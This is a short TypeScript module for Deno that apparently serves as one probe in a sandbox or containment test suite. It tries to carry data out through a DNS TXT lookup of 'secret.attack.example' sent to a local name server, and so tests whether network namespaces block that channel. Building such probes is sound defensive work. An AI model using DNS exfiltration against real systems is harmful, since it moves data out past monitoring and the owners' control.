// Carries data out in a name, to a name server of its choice.
import { type Target, within } from "../attack.ts";

export const layer = "namespaces";

export default async function (target: Target): Promise<string | null> {
  const nameServer = { ipAddr: "127.0.0.1", port: target.udpPort };
  await within(
    3000,
    Deno.resolveDns("secret.attack.example", "TXT", { nameServer }),
  );
  return "asked";
}
